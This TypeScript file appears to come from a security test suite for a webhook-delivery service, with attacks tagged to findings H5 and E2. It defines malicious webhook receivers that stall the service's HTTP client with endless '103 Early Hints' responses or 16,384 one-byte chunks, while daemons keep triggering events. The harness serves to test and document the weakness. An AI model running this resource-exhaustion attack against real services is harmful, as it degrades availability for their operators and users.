/** Receivers of webhooks that answer so that few bytes take long to read: 103 without end, or chunks of one byte. */
import type { Socket } from "node:net"
import type { Attack, Target } from "./attack.ts"
import { type DaemonTally, keepDaemons, repeatedly } from "./attacker-daemons.ts"
import { eventText } from "./attacker-events.ts"
import { emptyTally, flood } from "./sockets.ts"

const webhooks = 2
const repeats = 1_000
const eventMillis = 200
const informational = Buffer.from("HTTP/1.1 103 Early Hints\r\nlink: </siege>; rel=preload\r\n\r\n".repeat(repeats))

let attempts = 0
const tally = emptyTally()

const chunked = "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n"
const inChunks = Buffer.from(`${chunked}${"1\r\nx\r\n".repeat(16_384)}0\r\n\r\n`)

const receive = (socket: Socket): void => {
  attempts++
  socket.on("error", () => socket.destroy())
  socket.once("data", () => flood(socket, informational, tally, () => socket.destroyed))
}

const receiveInChunks = (socket: Socket): void => {
  socket.on("error", () => socket.destroy())
  socket.on("data", () => {
    attempts++
    tally.bytesSent += inChunks.length
    socket.write(inChunks)
  })
}

/** Each daemon sends an event so often. */
const send = async (target: Target, millis: number) => {
  const daemon: DaemonTally = { online: 0, closed: 0 }
  await keepDaemons(target, daemon, {}, (socket) =>
    repeatedly(target, millis, () => {
      if (attempts > 0) target.reach()
      socket.send([eventText({ event: "agent:stopped" })])
      return socket.ready
    })
  )
  return { attempts, bytesSent: tally.bytesSent, ...daemon }
}

/** Of one free account. */
export const informationalReceiver: Attack = {
  finding: "H5",
  asks: `${webhooks} webhooks of one account whose receiver answers 103 without end`,
  holds: () => ({ plan: "free", keys: 0, daemons: 1, webhooks }),
  receive,
  strike: (target) => send(target, eventMillis)
}

const chunkDaemons = 20
/** Each daemon sends as often as it may. */
const chunkEventMillis = 110

/** The same, whose receiver takes what comes. */
export const oneByteChunks: Attack = {
  ...informationalReceiver,
  finding: "E2",
  asks: `${webhooks} webhooks of one account whose receiver answers each of ${chunkDaemons} daemons' events with 16,384 chunks of one byte`,
  holds: (tiny) => ({ plan: "free", keys: 0, daemons: tiny ? 1 : chunkDaemons, webhooks }),
  receive: receiveInChunks,
  strike: (target) => send(target, chunkEventMillis)
}
